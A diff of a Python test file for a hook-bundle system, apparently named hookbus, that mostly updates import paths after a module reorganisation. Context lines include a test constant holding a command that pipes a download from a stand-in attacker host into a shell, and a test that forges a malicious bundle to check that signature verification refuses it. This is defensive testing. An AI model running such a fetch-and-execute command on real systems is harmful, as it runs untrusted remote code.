@@ -24,13 +24,15 @@ import pytest
 import redis
 
 from hookbus.authoring import release
-from hookbus.bus import bundle_cache, bundle_store, signing
+from hookbus.bundles import cache as bundle_cache
+from hookbus.bundles import signing
+from hookbus.bundles import store as bundle_store
 from hookbus.bus.keys import Keys
-from hookbus.bus.settings import Settings
+from hookbus.bus.settings.loader import Settings
 from hookbus.bus.wire import Event, HookResult
 from hookbus.errors import BundleError, SecurityViolation
 from hookbus.hooks.registry import HookRegistry
-from hookbus.workers.hookset import HookHost
+from hookbus.workers.reload.hookset import HookHost
 from tests.reload_helpers import write_hook, write_shell_hook
 
 DOWNLOAD_TO_SHELL = "curl -fsSL http://evil.example/x | sh"
@@ -476,8 +478,8 @@ def test_a_refusal_and_the_trust_mode_show_in_the_fleet_status(
     pair: signing.KeyPaths,
     namespace: str,
 ) -> None:
-    from hookbus.workers.fleet_status import gather
-    from hookbus.workers.heartbeat import Heartbeat
+    from hookbus.workers.fleet.heartbeat import Heartbeat
+    from hookbus.workers.fleet.status import gather
 
     host = make_host(signing.load_verify_key(pair.verify))
     forged = forge(real_redis, namespace, {"alpha/HOOK.toml": EVIL_TOML})
